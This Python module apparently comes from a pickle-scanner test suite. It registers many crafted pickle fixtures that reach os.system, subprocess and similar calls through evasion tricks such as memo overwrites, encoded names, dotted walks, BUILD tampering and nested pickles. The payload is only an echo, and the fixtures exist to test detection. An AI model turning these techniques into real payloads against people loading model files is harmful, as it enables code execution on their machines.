"""Hostile pickles by trick: names that are hidden, callables that are built, objects that are bent. Echo at most."""

from __future__ import annotations

import base64
import codecs
import zlib
from collections.abc import Callable

from stannary.testing.forges import forge
from stannary.testing.pickle_assembler import Assembler, call

__all__ = ["ECHO", "PAYLOAD", "SYSTEM", "register"]

ECHO = "echo stannary"
PAYLOAD = call("os", "system", ECHO)
SYSTEM = b"cos\nsystem\n"

_EXT = "EXT registry"
_PY2 = "py2 name mapping"
_NAMES = "memo/decoy/escape/computed names"
_OBJECTS = "INST/OBJ/NEWOBJ/BUILD/SETITEM tricks"
_DOTTED = "dotted walk"
_CHAIN = "callables from calls"
_NESTED = "nested pickle"
_PERSID = "persistent ids"


def register(name: str, family: str, content: bytes | Callable[[], bytes], *, filename: str = "model.pkl", malicious: bool | None = True) -> None:
    """Register content, or what builds it, under a name."""
    build = content if callable(content) else lambda: content
    forge(name, filename=filename, family=family, malicious=malicious)(build)


def _a(protocol: int | None = 4) -> Assembler:
    return Assembler(protocol)


def _g(module: str, name: str, protocol: int = 2) -> Assembler:
    return Assembler(protocol).name(module, name, stack=False)


# EXT registry: a code is bound to a name by the same stream, or by a stream that was loaded before

for _code, _op in ((7, "EXT1"), (300, "EXT2"), (70000, "EXT4"), (1, "EXT1"), (255, "EXT2")):
    register(
        f"pickle.ext.{_op.lower()}_{_code}", _EXT,
        _a(2).call("copyreg", "add_extension", "os", "system", _code).op("POP").op(_op, _code).reduce(ECHO).stop(),
    )  # fmt: skip
register("pickle.ext.py2_module", _EXT, _a(2).call("copy_reg", "add_extension", "posix", "system", 9).op("POP").op("EXT1", 9).reduce(ECHO).stop())
register("pickle.ext.registry_item", _EXT, _a(2).name("copyreg", "_inverted_registry").push(9).push(("os", "system")).op("SETITEM").op("POP").op("EXT1", 9).reduce(ECHO).stop())
register("pickle.ext.cache_item", _EXT, _a(2).name("copyreg", "_extension_cache").push(11).push(_g("os", "system")).op("SETITEM").op("POP").op("EXT1", 11).reduce(ECHO).stop())
register("pickle.ext.unset", _EXT, _a(2).op("EXT1", 99).reduce(ECHO).stop())
register("pickle.ext.no_reduce", _EXT, _a(2).call("copyreg", "add_extension", "os", "system", 12).ops("POP", "MARK").op("EXT1", 12).push(ECHO).op("OBJ").stop())

# Python 2 names: protocols below 3 are mapped by fix_imports

for _module, _name, _args in (
    ("__builtin__", "eval", ("1+1",)), ("__builtin__", "execfile", ("/nonexistent/stannary.py",)), ("__builtin__", "apply", ()),
    ("__builtin__", "reduce", (_g("os", "system"), [ECHO, 1])), ("__builtin__", "xrange", ()), ("commands", "getoutput", (ECHO,)),
    ("commands", "getstatusoutput", (ECHO,)), ("anydbm", "open", ("/nonexistent/stannary", "c")), ("whichdb", "whichdb", ("/nonexistent/x",)),
    ("dumbdbm", "open", ("/nonexistent/stannary",)), ("urllib2", "urlopen", ("http://127.0.0.1:9/",)), ("urllib", "urlretrieve", ("http://127.0.0.1:9/", "/nonexistent/x")),
    ("httplib", "HTTPConnection", ("127.0.0.1", 9)), ("thread", "start_new_thread", (_g("os", "system"), (ECHO,))), ("SocketServer", "TCPServer", (("127.0.0.1", 9), None)),
    ("BaseHTTPServer", "HTTPServer", (("127.0.0.1", 9), None)), ("xmlrpclib", "ServerProxy", ("http://127.0.0.1:9/",)), ("cPickle", "loads", (PAYLOAD,)),
    ("itertools", "imap", (_g("os", "system"), [ECHO])), ("itertools", "ifilter", (_g("os", "system"), [ECHO])), ("__builtin__", "raw_input", ("stannary",)),
    ("os", "getcwdu", ()), ("UserDict", "UserDict", (_g("os", "environ"),)), ("test.test_support", "run_unittest", ()), ("subprocess", "Popen", (ECHO,)),
    ("_winreg", "ConnectRegistry", ("x", 1)), ("Tkinter", "Tk", ()), ("tkFileDialog", "askopenfile", ()), ("__builtin__", "intern", (_g("os", "system"),)),
):  # fmt: skip
    if (_module, _name) in {("__builtin__", "xrange"), ("__builtin__", "apply"), ("UserDict", "UserDict"), ("os", "getcwdu"), ("__builtin__", "intern")}:
        continue
    register(f"pickle.py2.{_module.strip('_').lower()}_{_name.lower()}", _PY2, _a(2).name(_module, _name, stack=False).reduce(*_args).stop())
register("pickle.py2.inst_commands", _PY2, _a(0).op("MARK").push(ECHO).op("INST", ("commands", "getoutput")).stop())
register("pickle.py2.no_proto_builtin", _PY2, _a(None).op("GLOBAL", ("__builtin__", "eval")).reduce("1+1").stop())
register("pickle.py2.stack_global_below_3", _PY2, _a(2).push("commands").push("getoutput").op("STACK_GLOBAL").reduce(ECHO).stop())
register("pickle.py2.proto_again", _PY2, _a(4).op("PROTO", 2).op("GLOBAL", ("commands", "getoutput")).reduce(ECHO).stop())

# Names that a look-back reader does not see

register("pickle.names.memo_overwrite", _NAMES, _a().push("collections").op("MEMOIZE").op("POP").push("os").op("BINPUT", 0).op("POP").op("BINGET", 0).push("system").op("STACK_GLOBAL").reduce(ECHO).stop())
register("pickle.names.memo_far", _NAMES, _a().push("os").op("LONG_BINPUT", 70000).op("POP").push("system").op("LONG_BINPUT", 70001).op("POP").op("LONG_BINGET", 70000).op("LONG_BINGET", 70001).op("STACK_GLOBAL").reduce(ECHO).stop())
register("pickle.names.memo_text", _NAMES, _a().push("os").op("PUT", "900").op("POP").push("system").op("PUT", "901").op("POP").op("GET", "900").op("GET", "901").op("STACK_GLOBAL").reduce(ECHO).stop())
register("pickle.names.decoy_popped", _NAMES, _a().push("os").push("system").push("collections").push("OrderedDict").ops("POP", "POP").op("STACK_GLOBAL").reduce(ECHO).stop())
register("pickle.names.decoy_pop_mark", _NAMES, _a().push("os").push("system").op("MARK").push("collections").push("OrderedDict").op("POP_MARK").op("STACK_GLOBAL").reduce(ECHO).stop())
register("pickle.names.decoy_between", _NAMES, _a().push("os").push("collections").op("POP").push("system").push("deque").op("POP").op("STACK_GLOBAL").reduce(ECHO).stop())
register("pickle.names.unicode_escapes", _NAMES, _a(0).op("UNICODE", b"\\u006f\\u0073").op("UNICODE", b"\\u0073ystem").op("STACK_GLOBAL").op("MARK").op("UNICODE", ECHO.encode()).op("TUPLE").op("REDUCE").stop())
register("pickle.names.string_escapes", _NAMES, _a(0).op("STRING", b"'\\x6f\\x73'").op("STRING", b"'\\163ystem'").op("STACK_GLOBAL").op("MARK").op("STRING", b"'echo stannary'").op("TUPLE").op("REDUCE").stop())
register("pickle.names.double_quotes", _NAMES, _a(0).op("STRING", b'"os"').op("STRING", b'"system"').op("STACK_GLOBAL").op("MARK").op("STRING", b'"echo stannary"').op("TUPLE").op("REDUCE").stop())
register("pickle.names.binstring", _NAMES, _a(2).op("SHORT_BINSTRING", b"os").op("BINSTRING", b"system").op("STACK_GLOBAL").op("SHORT_BINSTRING", b"echo stannary").ops("TUPLE1", "REDUCE", "STOP").content())
register("pickle.names.binunicode8", _NAMES, _a().op("BINUNICODE8", "os").op("BINUNICODE8", "system").op("STACK_GLOBAL").reduce(ECHO).stop())
register("pickle.names.mixed_widths", _NAMES, _a().op("BINUNICODE", "os").op("BINUNICODE8", "system").op("STACK_GLOBAL").reduce(ECHO).stop())
register("pickle.names.dup", _NAMES, _a().push("code").op("DUP").op("POP").push("interact").op("STACK_GLOBAL").reduce().stop())
register("pickle.names.dup_pair", _NAMES, _a().push("timeit").op("DUP").op("STACK_GLOBAL").reduce("print('stannary')").stop())
register("pickle.names.from_tuple", _NAMES, _a().push(("os", "system")).op("POP").push("os").op("MEMOIZE").push("system").op("MEMOIZE").op("STACK_GLOBAL").reduce(ECHO).stop())
register("pickle.names.join", _NAMES, _a().push(_g("builtins", "str.join", 4)).tuple(("", ["o", "s"])).op("REDUCE").push("system").op("STACK_GLOBAL").reduce(ECHO).stop())
register("pickle.names.str_call", _NAMES, _a().call("builtins", "str", "os").push("system").op("STACK_GLOBAL").reduce(ECHO).stop())
register("pickle.names.str_newobj", _NAMES, _a().name("builtins", "str").push(("os",)).op("NEWOBJ").push("system").op("STACK_GLOBAL").reduce(ECHO).stop())
register("pickle.names.decode", _NAMES, _a().call("codecs", "decode", b"6f73", "hex").op("POP").push("os").call("codecs", "decode", "flfgrz", "rot13").op("STACK_GLOBAL").reduce(ECHO).stop())
register("pickle.names.encode_latin", _NAMES, _a().call("_codecs", "decode", b"os", "latin1").push("system").op("STACK_GLOBAL").reduce(ECHO).stop())
register("pickle.names.concat", _NAMES, _a().call("operator", "concat", "o", "s").push("system").op("STACK_GLOBAL").reduce(ECHO).stop())
register("pickle.names.add", _NAMES, _a().push("os").call("operator", "add", "sys", "tem").op("STACK_GLOBAL").reduce(ECHO).stop())
register("pickle.names.getitem", _NAMES, _a().call("operator", "getitem", ["x", "os"], 1).push("system").op("STACK_GLOBAL").reduce(ECHO).stop())
register("pickle.names.replace", _NAMES, _a().call("builtins", "str.replace", "oxs", "x", "").push("system").op("STACK_GLOBAL").reduce(ECHO).stop())
register("pickle.names.chr_join", _NAMES, _a().push(_g("builtins", "str.join", 4)).tuple(("", [_a().call("builtins", "chr", 111), _a().call("builtins", "chr", 115)])).op("REDUCE").push("system").op("STACK_GLOBAL").reduce(ECHO).stop())
register("pickle.names.reversed", _NAMES, _a().call("operator", "getitem", "so", _a().call("builtins", "slice", None, None, -1)).push("system").op("STACK_GLOBAL").reduce(ECHO).stop())
register("pickle.names.reduce_replace", _NAMES, _a().call("builtins", "bytes.decode", b"os").push("system").op("STACK_GLOBAL").reduce(ECHO).stop())
register("pickle.names.persid_name", _NAMES, _a().push("os").op("BINPERSID").push("system").op("STACK_GLOBAL").reduce(ECHO).stop())
register("pickle.names.subclass", _NAMES, _a().call("collections", "UserString", "os").push("system").op("STACK_GLOBAL").reduce(ECHO).stop())
register("pickle.names.fullwidth", _NAMES, _a(3).op("GLOBAL", ("ｏｓ", "ｓystem")).reduce(ECHO).stop())
register("pickle.names.long_s", _NAMES, _a().push("oſ").push("system").op("STACK_GLOBAL").reduce(ECHO).stop())
register("pickle.names.nul", _NAMES, _a(2).op("GLOBAL", (b"os\x00", "system")).reduce(ECHO).stop())
register("pickle.names.import_then_attr", _NAMES, _a().call("builtins", "getattr", _a().call("builtins", "__import__", "os"), "system").reduce(ECHO).stop())
register("pickle.names.modules_item", _NAMES, _a().call("builtins", "getattr", _a().call("operator", "getitem", _g("sys", "modules", 4), "os"), "system").reduce(ECHO).stop())
register("pickle.names.shadowed_before", _NAMES, _a().push({"module": "collections"}).op("POP").name("os", "system").op("MEMOIZE").op("POP").op("BINGET", 0).reduce(ECHO).stop())
register("pickle.names.memo_wrap", _NAMES, _a().name("os", "system").op("LONG_BINPUT", 0xFFFFFFFF).op("POP").op("LONG_BINGET", 0xFFFFFFFF).reduce(ECHO).stop())

# Dotted names: one permitted module, walked through to another

for _index, (_module, _name) in enumerate((
    ("torch.serialization", "os.system"), ("torch.serialization", "sys.modules"), ("torch.hub", "os.system"), ("torch._utils", "sys.modules.get"), ("numpy", "os.system"),
    ("numpy.lib.npyio", "os.system"), ("numpy.core.multiarray", "os.system"), ("numpy._core.numeric", "sys.modules.get"), ("joblib.numpy_pickle", "os.system"), ("joblib.numpy_pickle_utils", "io.open"),
    ("sklearn.utils", "warnings.sys.modules"), ("sklearn.base", "warnings.linecache.os.system"), ("collections", "_sys.modules"), ("collections", "abc.sys.modules.get"), ("functools", "partial.__new__"),
    ("torch", "os.popen"), ("torch.nn.modules.module", "functools.partial"), ("pandas.io.common", "os.system"), ("pandas.core.frame", "sys.modules"), ("xgboost.core", "os.system"),
    ("lightgbm.basic", "subprocess.run"), ("transformers.utils", "os.system"), ("scipy.sparse._base", "np.load"), ("copyreg", "__builtins__.get"), ("builtins", "str.__class__"),
    ("logging", "os.system"), ("random", "_os.system"), ("tempfile", "_os.system"), ("uuid", "os.system"), ("torch.storage", "io.open"),
    ("torch.nn.parameter", "torch.serialization.os.system"), ("collections", "OrderedDict.__init__.__globals__"), ("torch.Tensor", "__init__.__globals__.get"), ("datetime", "sys.modules.get"),
)):  # fmt: skip
    _stack = _index % 2 == 0
    register(f"pickle.dotted.{_module}_{_name}".replace("._", ".").lower().replace(".", "_").replace("pickle_dotted_", "pickle.dotted."), _DOTTED,
             _a(4).name(_module, _name, stack=_stack).reduce(ECHO).stop())  # fmt: skip

# Objects: every way to make, fill and bend one

_POPEN = ("subprocess", "Popen")
register("pickle.objects.inst", _OBJECTS, _a(0).op("MARK").push(ECHO).op("INST", ("os", "system")).stop())
register("pickle.objects.inst_popen", _OBJECTS, _a(None).op("MARK").push(["echo", "stannary"]).op("INST", _POPEN).stop())
register("pickle.objects.obj", _OBJECTS, _a(1).op("MARK").name("os", "system").push(ECHO).op("OBJ").stop())
register("pickle.objects.obj_memo", _OBJECTS, _a(2).name(*_POPEN).op("BINPUT", 3).ops("POP", "MARK").op("BINGET", 3).push(["echo", "stannary"]).op("OBJ").stop())
register("pickle.objects.newobj", _OBJECTS, _a(2).name(*_POPEN).push((["echo", "stannary"],)).op("NEWOBJ").stop())
register("pickle.objects.newobj_ex", _OBJECTS, _a(4).name(*_POPEN).push(()).push({"args": ["echo", "stannary"]}).op("NEWOBJ_EX").stop())
register("pickle.objects.newobj_build", _OBJECTS, _a(2).name("threading", "Thread").push(()).op("NEWOBJ").push({"_target": _g("os", "system"), "_args": (ECHO,)}).op("BUILD").stop())
register("pickle.objects.build_setstate", _OBJECTS, _a(2).name("collections", "OrderedDict").push(()).op("REDUCE").push({"__setstate__": _g("os", "system")}).op("BUILD").push(ECHO).op("BUILD").stop())
register("pickle.objects.build_setstate_slots", _OBJECTS, _a(2).name("types", "SimpleNamespace").push(()).op("REDUCE").push((None, {"__setstate__": _g("os", "system")})).op("BUILD").push(ECHO).op("BUILD").stop())
register("pickle.objects.build_class", _OBJECTS, _a(2).name("types", "SimpleNamespace").push((None, {"__setstate__": _g("os", "system")})).op("BUILD").stop())
register("pickle.objects.build_module", _OBJECTS, _a(4).name("torch", "serialization").push({"load": _g("os", "system", 4)}).op("BUILD").stop())
register("pickle.objects.build_function", _OBJECTS, _a(4).name("collections", "namedtuple").push({"__code__": None}).op("BUILD").stop())
register("pickle.objects.build_function_slots", _OBJECTS, _a(4).name("collections", "namedtuple").push((None, {"__code__": "x", "__globals__": {}})).op("BUILD").stop())
register("pickle.objects.build_builtins", _OBJECTS, _a(4).call("builtins", "__import__", "builtins").push({"print": _g("os", "system", 4)}).op("BUILD").stop())
register("pickle.objects.build_module_dict", _OBJECTS, _a(4).name("collections", "__dict__").push("namedtuple").push(_g("os", "system", 4)).op("SETITEM").stop())
register("pickle.objects.build_partial", _OBJECTS, _a(2).name("functools", "partial").push((_g("builtins", "print"),)).op("REDUCE").push((_g("os", "system"), (ECHO,), {}, None)).op("BUILD").push(()).op("REDUCE").stop())
register("pickle.objects.build_class_attr", _OBJECTS, _a(2).name("collections", "OrderedDict").push(()).op("REDUCE").push({"__class__": _g(*_POPEN)}).op("BUILD").stop())
register("pickle.objects.build_reduce", _OBJECTS, _a(2).name("types", "SimpleNamespace").push(()).op("REDUCE").push({"__reduce_ex__": _g("os", "system")}).op("BUILD").stop())
register("pickle.objects.setitem_environ", _OBJECTS, _a(2).name("os", "environ").push("LD_PRELOAD").push("/nonexistent/stannary.so").op("SETITEM").stop())
register("pickle.objects.setitems_environ", _OBJECTS, _a(2).name("os", "environ").op("MARK").push("PYTHONSTARTUP").push("/nonexistent/x.py").op("SETITEMS").stop())
register("pickle.objects.setitem_modules", _OBJECTS, _a(2).name("sys", "modules").push("numpy").push(_g("os", "path")).op("SETITEM").stop())
register("pickle.objects.setitem_builtins", _OBJECTS, _a(4).name("builtins", "__dict__").push("print").push(_g("os", "system", 4)).op("SETITEM").stop())
register("pickle.objects.append_path", _OBJECTS, _a(2).name("sys", "path").push("/nonexistent/stannary").op("APPEND").stop())
register("pickle.objects.appends_meta_path", _OBJECTS, _a(2).name("sys", "meta_path").op("MARK").push(_g("os", "system")).op("APPENDS").stop())
register("pickle.objects.appends_path_hooks", _OBJECTS, _a(2).name("sys", "path_hooks").op("MARK").push(_g("os", "system")).op("APPENDS").stop())
register("pickle.objects.append_callable", _OBJECTS, _a(2).call("types", "SimpleNamespace").push({"append": _g("os", "system"), "extend": _g("os", "system")}).op("BUILD").push(ECHO).op("APPEND").stop())
register("pickle.objects.appends_callable", _OBJECTS, _a(2).call("types", "SimpleNamespace").push({"extend": _g("os", "system")}).op("BUILD").op("MARK").push(ECHO).op("APPENDS").stop())
register("pickle.objects.additems_callable", _OBJECTS, _a(4).call("types", "SimpleNamespace").push({"add": _g("os", "system", 4)}).op("BUILD").op("MARK").push(ECHO).op("ADDITEMS").stop())
register("pickle.objects.setitem_shelve", _OBJECTS, _a(2).call("shelve", "open", "/nonexistent/stannary").push("k").push("v").op("SETITEM").stop())
register("pickle.objects.append_file", _OBJECTS, _a(2).call("collections", "deque", [], 1).op("POP").call("fileinput", "FileInput", "/nonexistent/x").push("x").op("APPEND").stop())
register("pickle.objects.extend_array", _OBJECTS, _a(2).name("atexit", "register").push((_g("os", "system"), ECHO)).op("REDUCE").stop())
register("pickle.objects.dict_factory", _OBJECTS, _a(4).call("collections", "defaultdict", _a().call("functools", "partial", _g("os", "system", 4), ECHO)).stop())
register("pickle.objects.getitem_factory", _OBJECTS, _a(4).call("operator", "getitem", _a().call("collections", "defaultdict", _a().call("functools", "partial", _g("os", "system", 4), ECHO)), "x").stop())
register("pickle.objects.property_call", _OBJECTS, _a(4).call("builtins", "type", "X", (_g("builtins", "object", 4),), {"__reduce__": _g("os", "system", 4)}).stop())
register("pickle.objects.type_metaclass", _OBJECTS, _a(4).call("builtins", "type", "X", (_g("builtins", "object", 4),), {"__init_subclass__": _g("os", "system", 4), "__hash__": _g("os", "system", 4)}).reduce().stop())
register("pickle.objects.key_function", _OBJECTS, _a(4).call("builtins", "max", [ECHO], _g("os", "system", 4)).op("POP").call("builtins", "sorted", [ECHO]).op("POP").call("heapq", "nsmallest", 1, [ECHO], _g("os", "system", 4)).stop())
register("pickle.objects.iter_sentinel", _OBJECTS, _a(4).call("builtins", "list", _a().call("builtins", "iter", _a().call("functools", "partial", _g("os", "system", 4), ECHO), 0)).stop())
register("pickle.objects.list_of_map", _OBJECTS, _a(4).call("builtins", "list", _a().call("builtins", "map", _g("os", "system", 4), [ECHO])).stop())
register("pickle.objects.deque_of_map", _OBJECTS, _a(4).call("collections", "deque", _a().call("builtins", "map", _g("os", "system", 4), [ECHO])).stop())
register("pickle.objects.bytes_of_map", _OBJECTS, _a(4).name("builtins", "bytes").push((_a().call("builtins", "map", _g("os", "system", 4), [ECHO]),)).op("NEWOBJ").stop())
register("pickle.objects.set_of_map", _OBJECTS, _a(4).op("EMPTY_SET").op("POP").call("builtins", "frozenset", _a().call("itertools", "starmap", _g("os", "system", 4), [(ECHO,)])).stop())
register("pickle.objects.dict_update_map", _OBJECTS, _a(4).call("collections", "OrderedDict", _a().call("builtins", "map", _g("os", "system", 4), [ECHO])).stop())
register("pickle.objects.result_unused", _OBJECTS, _a(4).call("os", "system", ECHO).op("POP").push({"weights": [1.0, 2.0]}).stop())
register("pickle.objects.result_in_dict", _OBJECTS, _a(4).push({"weights": [1.0], "meta": _a().call("os", "system", ECHO)}).stop())
register("pickle.objects.inside_key", _OBJECTS, _a(4).op("EMPTY_DICT").call("os", "system", ECHO).push(1).op("SETITEM").stop())
register("pickle.objects.import_only", _OBJECTS, _a(4).name("this", "s").stop())
register("pickle.objects.import_evil_module", _OBJECTS, _a(4).push({"w": 1, "f": _g("antigravity", "webbrowser", 4)}).stop())

# Callables that come out of calls

register("pickle.chain.getattr_call", _CHAIN, _a().call("builtins", "getattr", _g("os", "path", 4), "os").op("POP").call("builtins", "getattr", _a().call("importlib", "import_module", "os"), "system").reduce(ECHO).stop())
register("pickle.chain.partial_call", _CHAIN, _a().call("functools", "partial", _g("os", "system", 4), ECHO).reduce().stop())
register("pickle.chain.partial_partial", _CHAIN, _a().call("functools", "partial", _a().call("functools", "partial", _g("os", "system", 4)), ECHO).reduce().stop())
register("pickle.chain.methodcaller", _CHAIN, _a().call("operator", "methodcaller", "system", ECHO).reduce(_a().call("importlib", "import_module", "os")).stop())
register("pickle.chain.method_writes", _CHAIN, _a().call("operator", "methodcaller", "to_pickle", "/tmp/stannary-echo").stop())
register("pickle.chain.method_evaluates", _CHAIN, _a().call("operator", "methodcaller", "query", "@pd.io.common.os.system('echo')").stop())
register("pickle.bomb.typed_range", _CHAIN, _a().call("array", "array", "B", _a().call("builtins", "range", 10**11)).stop())
register("pickle.bomb.network", _CHAIN, _a().call("builtins", "list", _a().call("ipaddress", "IPv4Network", "0.0.0.0/0")).stop())
register("pickle.bomb.fraction", _CHAIN, _a().call("fractions", "Fraction", "1e999999999").stop())
register("pickle.bomb.decimal", _CHAIN, _a().call("builtins", "int", _a().call("decimal", "Decimal", "1e99999999")).stop())
register("pickle.chain.attrgetter", _CHAIN, _a().call("operator", "attrgetter", "system").reduce(_a().call("builtins", "__import__", "os")).reduce(ECHO).stop())
register("pickle.chain.attrgetter_dotted", _CHAIN, _a().call("operator", "attrgetter", "serialization.os.system").reduce(_a().call("builtins", "__import__", "torch")).reduce(ECHO).stop())
register("pickle.chain.itemgetter", _CHAIN, _a().call("operator", "itemgetter", "system").reduce(_g("os", "__dict__", 4)).reduce(ECHO).stop())
register("pickle.chain.dict_get", _CHAIN, _a().call("builtins", "dict.get", _g("os", "__dict__", 4), "system").reduce(ECHO).stop())
register("pickle.chain.object_getattribute", _CHAIN, _a().call("builtins", "object.__getattribute__", _g("os", "path", 4), "os").stop())
register("pickle.chain.subclasses", _CHAIN, _a().call("builtins", "type.__subclasses__", _g("builtins", "object", 4)).op("POP").call("operator", "getitem", _a().call("builtins", "type.__subclasses__", _g("builtins", "object", 4)), 100).reduce(ECHO).stop())
register("pickle.chain.function_of_code", _CHAIN, _a().call("types", "FunctionType", _a().call("marshal", "loads", b"c\x00"), {}).reduce().stop())
register("pickle.chain.compile_exec", _CHAIN, _a().call("builtins", "exec", _a().call("builtins", "compile", "print('stannary')", "x", "exec")).stop())
register("pickle.chain.reduce_map", _CHAIN, _a().call("functools", "reduce", _g("builtins", "getattr", 4), ["system"], _a().call("builtins", "__import__", "os")).reduce(ECHO).stop())
register("pickle.chain.resolve_name", _CHAIN, _a().call("pkgutil", "resolve_name", "os:system").reduce(ECHO).stop())
register("pickle.chain.pydoc_locate", _CHAIN, _a().call("pydoc", "locate", "os.system").reduce(ECHO).stop())
register("pickle.chain.starmap_deque", _CHAIN, _a().call("collections", "deque", _a().call("itertools", "starmap", _g("builtins", "eval", 4), [("1+1",)])).stop())
register("pickle.chain.bound_method", _CHAIN, _a().call("types", "MethodType", _g("os", "system", 4), ECHO).reduce().stop())
register("pickle.chain.unknown_result", _CHAIN, _a().call("somepkg.registry", "lookup", "shell").reduce(ECHO).stop())
register("pickle.chain.torch_wrapper", _CHAIN, _a().call("torch._tensor", "_rebuild_from_type_v2", _a().call("functools", "partial", _g("os", "system", 4), ECHO), _g("builtins", "str", 4), (), None).stop())
register("pickle.chain.frombuffer_dtype", _CHAIN, _a().call("numpy.core.numeric", "_frombuffer", _a().call("os", "popen", ECHO), "u1", (1,), "C").stop())
register("pickle.chain.reconstruct_args", _CHAIN, _a().call("numpy.core.multiarray", "_reconstruct", _g("numpy", "ndarray", 4), (0,), _a().call("os", "system", ECHO)).stop())
register("pickle.chain.sklearn_pipeline", _CHAIN, _a().name("sklearn.preprocessing._function_transformer", "FunctionTransformer").push(()).op("NEWOBJ").push({"func": _g("os", "system", 4), "inverse_func": None, "validate": False, "_sklearn_version": "1.5.0"}).op("BUILD").stop())
register("pickle.chain.sklearn_eval", _CHAIN, _a().name("sklearn.preprocessing._function_transformer", "FunctionTransformer").push(()).op("NEWOBJ").push({"func": _g("builtins", "eval", 4)}).op("BUILD").stop())
register("pickle.chain.delayed_tuple", _CHAIN, _a().call("joblib.parallel", "Parallel", 1).reduce([(_g("os", "system", 4), (ECHO,), {})]).stop())
register("pickle.chain.cloudpickle_module", _CHAIN, _a().call("builtins", "getattr", _a().call("cloudpickle.cloudpickle", "subimport", "os"), "system").reduce(ECHO).stop())

# A pickle in a string of a pickle

_HEX, _B64, _Z = PAYLOAD.hex(), base64.b64encode(PAYLOAD).decode(), zlib.compress(PAYLOAD)
register("pickle.nested.loads_bytes", _NESTED, _a().call("pickle", "loads", PAYLOAD).stop())
register("pickle.nested.loads_base64", _NESTED, _a().call("pickle", "loads", _a().call("base64", "b64decode", _B64)).stop())
register("pickle.nested.loads_hex", _NESTED, _a().call("pickle", "loads", _a().call("builtins", "bytes.fromhex", _HEX)).stop())
register("pickle.nested.loads_zlib", _NESTED, _a().call("pickle", "loads", _a().call("zlib", "decompress", _Z)).stop())
register("pickle.nested.value_bytes", _NESTED, _a().push({"state": PAYLOAD}).stop())
register("pickle.nested.value_base64", _NESTED, _a().push({"state": base64.b64encode(call("os", "system", ECHO, protocol=4)).decode()}).stop())
register("pickle.nested.value_hex", _NESTED, _a().push({"state": call("os", "system", ECHO, protocol=4).hex()}).stop())
register("pickle.nested.value_zlib", _NESTED, _a().push({"state": _Z}).stop())
register("pickle.nested.bytearray", _NESTED, _a(5).push([_a(5).op("BYTEARRAY8", PAYLOAD)]).stop())
register("pickle.nested.twice", _NESTED, _a().push({"a": _a().push({"b": PAYLOAD}).stop()}).stop())
register("pickle.nested.torch_load_bytesio", _NESTED, _a().call("torch", "load", _a().call("io", "BytesIO", PAYLOAD)).stop())
register("pickle.nested.joblib_bytesio", _NESTED, _a().call("joblib", "load", _a().call("_io", "BytesIO", PAYLOAD)).stop())
register("pickle.nested.storage_bytes", _NESTED, _a().call("torch.storage", "_load_from_bytes", PAYLOAD).stop())
register("pickle.nested.numba", _NESTED, _a().call("numba.core.serialize", "_unpickle__CustomPickled", PAYLOAD).stop())
register("pickle.nested.rot13_code", _NESTED, _a().call("builtins", "exec", _a().call("codecs", "decode", codecs.encode("print('stannary')", "rot13"), "rot13")).stop())

# Persistent ids: what torch and others turn into storages

register("pickle.persid.tuple_call", _PERSID, _a(2).push(("storage", _a(2).call("os", "system", ECHO), "0", "cpu", 1)).op("BINPERSID").stop())
register("pickle.persid.global_location", _PERSID, _a(2).push(("storage", _g("torch", "FloatStorage"), "0", _g("os", "system"), 1)).op("BINPERSID").stop())
register("pickle.persid.global_type", _PERSID, _a(2).push(("storage", _g("os", "system"), ECHO, "cpu", 1)).op("BINPERSID").stop())
register("pickle.persid.module_source", _PERSID, _a(2).push(("module", _g("subprocess", "Popen"), "x.py", "import os")).op("BINPERSID").stop())
register("pickle.persid.text", _PERSID, _a(0).op("PERSID", "x").op("POP").call("os", "system", ECHO).stop())
register("pickle.persid.traversal", _PERSID, _a(2).push(("storage", _g("torch", "FloatStorage"), "../../../../etc/hostname", "cpu", 1)).op("BINPERSID").call("os", "system", ECHO).stop())

# Code that travels with the pickle, and is called

_CODE = (0, 0, 0, 0, 3, 3, b"t\x00d\x01\xab\x01", (None, ECHO), ("os", "system"), (), "m.py", "f", "f", 1, b"", b"", (), ())
_CLOUD = _a().call("cloudpickle.cloudpickle", "_make_function", _a().call("cloudpickle.cloudpickle", "_builtin_type", "CodeType").reduce(*_CODE), {"os": _a().call("cloudpickle.cloudpickle", "subimport", "os")}, "f", None, None)
_DILL = _a().call("dill._dill", "_create_function", _a().call("dill._dill", "_create_code", b"", *_CODE), {"__name__": "m"}, "f", None, None)
register("pickle.chain.cloudpickle_code_called", _CHAIN, _a().push(_CLOUD).reduce().stop())
register("pickle.chain.cloudpickle_code_held", _CHAIN, _a().push({"predict": _CLOUD}).stop())
register("pickle.chain.dill_code_called", _CHAIN, _a().push(_DILL).reduce().stop())
register("pickle.chain.dill_code_held", _CHAIN, _a().push({"predict": _DILL}).stop())
